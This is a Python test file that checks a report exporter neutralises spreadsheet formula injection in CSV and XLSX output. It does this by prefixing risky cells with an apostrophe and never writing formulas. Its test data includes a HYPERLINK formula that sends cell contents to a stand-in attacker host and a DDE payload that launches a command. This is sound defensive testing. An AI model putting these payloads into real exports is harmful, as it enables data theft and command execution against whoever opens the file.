"""Export cells that a spreadsheet would run are written as plain text."""

from __future__ import annotations

import csv
import os
import re
import zipfile

from apps.reports.exporting import write_export

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _export(fmt):
    rows = [(i, title, -5) for i, title in enumerate(HOSTILE + ["plain title"])]
    path, count = write_export(iter(rows), ["id", "title", "number"], fmt, progress=lambda done: None)
    return path, count


def test_csv_cells_that_would_run_start_with_an_apostrophe():
    path, count = _export("csv")
    try:
        with open(path, newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))
    finally:
        os.unlink(path)
    assert count == len(HOSTILE) + 1
    titles = [row[1] for row in rows[1:]]
    assert titles[:-1] == ["'" + text for text in HOSTILE]
    assert titles[-1] == "plain title"
    assert {row[2] for row in rows[1:]} == {"-5"}  # numbers are numbers, not neutralised text


def test_xlsx_never_writes_a_formula_from_data():
    path, _ = _export("xlsx")
    try:
        with zipfile.ZipFile(path) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
            shared = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
    finally:
        os.unlink(path)
    assert "<f>" not in sheet and not re.search(r"<f[ >]", sheet)
    cells = sheet + shared
    assert "HYPERLINK" in cells  # the text is kept, as text
    assert "&apos;=HYPERLINK" in cells or "'=HYPERLINK" in cells
